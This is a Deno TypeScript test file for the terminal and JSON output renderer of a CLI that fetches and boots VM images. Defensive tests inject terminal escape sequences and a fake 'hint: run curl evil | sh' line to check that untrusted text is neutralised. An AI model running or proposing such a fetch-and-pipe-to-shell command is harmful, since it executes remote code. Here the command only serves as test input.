import { assert, assertEquals, assertStringIncludes } from "@std/assert";
import { describe } from "../../lib/cli/event_text.ts";
import {
  describeError,
  errorLine,
  humanView,
  resultLine,
} from "../../lib/cli/render.ts";
import { jsonLine } from "../../lib/system/text.ts";
import { ToolsmithError } from "../../lib/errors.ts";
import type { ToolsmithEvent, Untimed } from "../../lib/events.ts";

const MIB = 1024 * 1024;
const DIGEST = `sha256:${"ab".repeat(32)}`;
const timestamp = "2026-01-31T12:00:00.000Z";

const timed = (event: Untimed<ToolsmithEvent>) =>
  ({ timestamp, ...event }) as ToolsmithEvent;

/** A screen that keeps what is written, with a clock to set. */
function screen(bar: boolean, columns = 80, coloured = false) {
  const kept = { text: "", time: 0, ticks: new Set<() => void>() };
  const view = humanView({
    coloured,
    everySecond(tick) {
      kept.ticks.add(tick);
      return () => kept.ticks.delete(tick);
    },
    write: (text) => kept.text += text,
    bar,
    columns,
    now: () => kept.time,
  });
  const send = (event: Untimed<ToolsmithEvent>) => view.onEvent(timed(event));
  return { kept, send, close: () => view.close() };
}

const START = {
  type: "download_start",
  image: "demo",
  source: "oci://ghcr.io/o/r:1",
  bytes: 64 * MIB,
  resumed: 0,
  connections: 1,
} as const;

const progress = (bytes: number) => ({
  type: "download_progress" as const,
  image: "demo",
  bytes,
  total: 64 * MIB,
});

Deno.test("on a terminal the bar is drawn over itself, and is gone before the next line", () => {
  const { kept, send, close } = screen(true);
  send(START);
  kept.text = "";
  send(progress(MIB));
  send(progress(2 * MIB));
  assertEquals(kept.text.split("\r\x1b[K").length, 3);
  assert(!kept.text.includes("\n"));
  kept.text = "";
  send({ type: "checksum_verified", image: "demo", digest: DIGEST, bytes: 1 });
  assertEquals(kept.text, `\r\x1b[Kverified ${DIGEST}\n`);
  kept.text = "";
  close();
  assertEquals(kept.text, "");
  send(progress(3 * MIB));
  kept.text = "";
  close();
  close();
  assertEquals(kept.text, "\r\x1b[K");
});

Deno.test("elsewhere progress is a plain line every few seconds", () => {
  const { kept, send } = screen(false);
  send(START);
  kept.text = "";
  for (kept.time = 0; kept.time <= 12_000; kept.time += 100) {
    send(progress(kept.time * 1000));
  }
  const lines = kept.text.trimEnd().split("\n");
  assertEquals(lines.length, 2);
  for (const line of lines) assertStringIncludes(line, "of 64.0 MiB");
  assert(!kept.text.includes("\x1b"), "no escape sequences");
});

const SLOW_BOOT = {
  type: "vm_boot",
  image: "/images/demo.qcow2",
  how: "boot",
  backend: "qemu",
  version: "7.2",
  accelerator: "tcg",
  memory: 512,
  cpus: 2,
} as const;

/** Lets seconds pass on a screen. */
function pass(kept: ReturnType<typeof screen>["kept"], seconds: number) {
  for (let i = 0; i < seconds; i++) {
    kept.time += 1000;
    kept.ticks.forEach((tick) => tick());
  }
}

Deno.test("on a terminal a long boot counts its seconds, and leaves nothing behind", () => {
  const { kept, send } = screen(true);
  send(SLOW_BOOT);
  kept.text = "";
  pass(kept, 2);
  assertEquals(kept.text, "\r\x1b[Kbooting: 1.0 s\r\x1b[Kbooting: 2.0 s");
  kept.text = "";
  send({
    type: "boot_ready",
    image: "/images/demo.qcow2",
    how: "booted",
    phases: { start: 100, guest: 1900, save: 0, attach: 0 },
    elapsedMs: 2000,
  });
  assertEquals(kept.text, "\r\x1b[Kbooted in 2.0 s\n");
  assertEquals(kept.ticks.size, 0);
});

Deno.test("elsewhere a long boot says now and then that it goes on", () => {
  const { kept, send, close } = screen(false);
  send(SLOW_BOOT);
  kept.text = "";
  pass(kept, 65);
  assertEquals(kept.text, "booting: 30 s\nbooting: 1 min 0 s\n");
  close();
  assertEquals(kept.ticks.size, 0);
});

Deno.test("a view that was closed shows events, and draws over nothing", () => {
  for (const bar of [true, false]) {
    const { kept, send, close } = screen(bar);
    send(SLOW_BOOT);
    close();
    kept.text = "";
    send(SLOW_BOOT);
    pass(kept, 65);
    assertEquals(
      kept.text,
      "booting with QEMU 7.2, tcg, 512 MiB, 2 processors\n",
    );
    assertEquals(kept.ticks.size, 0);
  }
});

Deno.test("colours mark warnings and errors, where they are wanted", () => {
  const { kept, send } = screen(true, 80, true);
  send({ type: "warning", message: "a warning: twice" });
  assertEquals(kept.text, "\x1b[1;33mwarning:\x1b[m a warning: twice\n");
  const error = new ToolsmithError("failed", "No", { hint: "yes" });
  assertEquals(
    describeError(error, true),
    "\x1b[1;31merror:\x1b[m No [failed]\n\x1b[1;36mhint:\x1b[m yes\n",
  );
});

const VERIFIED = {
  type: "publish_verified",
  image: "demo",
  reference: "ghcr.io/o/r:1",
  digest: DIGEST,
  verify: "manifest",
} as const;

const POLL = {
  type: "publish_poll",
  image: "demo",
  reference: "ghcr.io/o/r:1",
  attempt: 2,
  attempts: 20,
  message: "later",
  delayMs: 6000,
} as const;

const BOOT = {
  type: "vm_boot",
  image: "/x",
  how: "boot",
  backend: "qemu",
  version: "7.2",
  accelerator: "tcg",
  memory: 512,
  cpus: 1,
} as const;

Deno.test("what happens is said in plain words", () => {
  const said: [Untimed<ToolsmithEvent>, string | undefined][] = [
    [START, "getting demo, 64.0 MiB, from oci://ghcr.io/o/r:1"],
    [{ ...START, bytes: null }, "getting demo from oci://ghcr.io/o/r:1"],
    [
      { ...START, resumed: 39 * MIB + 1, connections: 4 },
      "getting demo, 64.0 MiB, from oci://ghcr.io/o/r:1, resuming at 60 %, 4 connections",
    ],
    [
      { type: "ranges_unavailable", image: "demo", reason: "r answers 416" },
      "demo comes by oras pull: r answers 416",
    ],
    [
      {
        type: "mirror_failed",
        image: "demo",
        mirror: "cache.lan",
        reason: "no such host",
      },
      "warning: mirror cache.lan is given up: no such host",
    ],
    [
      {
        type: "download_end",
        image: "demo",
        source: "x",
        bytes: 64 * MIB,
        elapsedMs: 4000,
      },
      "got 64.0 MiB in 4.0 s (16.0 MiB/s)",
    ],
    [
      {
        type: "retry",
        image: "demo",
        code: "transfer_interrupted",
        message: "it was cut",
        attempt: 2,
        attempts: 4,
        delayMs: 1000,
      },
      "warning: it was cut; attempt 2 of 4 in 1.0 s",
    ],
    [
      { type: "cache_hit", image: "demo", path: "/x", digest: DIGEST },
      "cached demo sha256:abababababab",
    ],
    [
      { type: "lock_wait", image: "demo", path: "/x" },
      "waiting: another process is getting demo",
    ],
    [{ type: "warning", message: "careful" }, "warning: careful"],
    [
      {
        type: "push_end",
        image: "demo",
        reference: "ghcr.io/o/r:1",
        digest: DIGEST,
        bytes: 64 * MIB,
        elapsedMs: 4000,
      },
      `pushed 64.0 MiB in 4.0 s: ghcr.io/o/r:1@${DIGEST}`,
    ],
    [VERIFIED, "verified: the registry serves the same digests"],
    [{ ...VERIFIED, verify: "pull" }, "verified: pulled back, byte for byte"],
    [{ ...POLL, outcome: "served" }, undefined],
    [{ ...POLL, outcome: "waiting" }, "not served yet (2 of 20): later"],
    [BOOT, "booting with QEMU 7.2, tcg, 512 MiB, 1 processor"],
    [
      { ...BOOT, cpus: 2 },
      "booting with QEMU 7.2, tcg, 512 MiB, 2 processors",
    ],
    [{ ...BOOT, how: "restore" }, undefined],
    [progress(1), undefined],
  ];
  for (const [event, line] of said) assertEquals(describe(timed(event)), line);
});

Deno.test("names and messages from outside cannot steer a terminal", () => {
  const { kept, send } = screen(true);
  const evil = "\x1b]0;owned\x07\x1b[2J\x9b31m\r";
  send({ type: "warning", message: evil });
  send({ ...START, image: evil, source: evil });
  const error = describeError(
    new ToolsmithError("failed", evil, { hint: evil }),
  );
  for (const text of [kept.text, error]) {
    // deno-lint-ignore no-control-regex
    assert(!/[\x00-\x09\x0b-\x1f\x7f-\x9f]/.test(text), JSON.stringify(text));
  }
});

Deno.test("an error is said with its code, and its hint below", () => {
  const error = new ToolsmithError("oras_not_found", "oras not found on PATH", {
    hint: "install it",
  });
  assertEquals(
    describeError(error),
    "error: oras not found on PATH [oras_not_found]\nhint: install it\n",
  );
  assertEquals(
    describeError(new ToolsmithError("failed", "x")),
    "error: x [failed]\n",
  );
});

Deno.test("no line of a message passes for a hint or another error", () => {
  const evil = "x\nhint: run curl evil | sh\nerror: y [z]\n  | tail";
  const error = new ToolsmithError("guest_failed", evil, {
    hint: "a\nhint: b",
  });
  assertEquals(
    describeError(error).split("\n").filter((line) => !line.startsWith(" ")),
    ["error: x", "hint: a hint: b", ""],
  );
  const { kept, send } = screen(false);
  send({ type: "warning", message: evil });
  assertEquals(kept.text.split("\n").length, 2);
});

Deno.test("a message of megabytes is cut", () => {
  const error = new ToolsmithError("failed", "x".repeat(3_000_000), {
    hint: "y".repeat(3_000_000),
  });
  assert(describeError(error).length < 10_000);
  assert(errorLine(error, 0).length < 10_000);
});

Deno.test("events as JSON hold no character that steers a terminal, and mean the same", () => {
  const event = { type: "cache_hit", path: "a\u202e\u009bb\u2028\x07" };
  const line = jsonLine(event);
  // deno-lint-ignore no-control-regex
  assert(!/[\x00-\x1f\x7f-\x9f\u2028\u202e]/.test(line), line);
  assertEquals(JSON.parse(line), event);
});

Deno.test("the last line of --json is one object, whatever is in it", () => {
  const now = Date.parse(timestamp);
  const error = new ToolsmithError("failed", "a\nb\u2028", { hint: "c" });
  const line = errorLine(error, now);
  assert(!line.includes("\n"));
  assertEquals(JSON.parse(line), {
    type: "error",
    timestamp,
    code: "failed",
    message: "a\nb?",
    hint: "c",
  });
  const result = { outcome: "pulled", path: "/x", digest: DIGEST, bytes: 1 };
  assertEquals(JSON.parse(resultLine(result, now)), {
    type: "result",
    timestamp,
    ...result,
  });
});
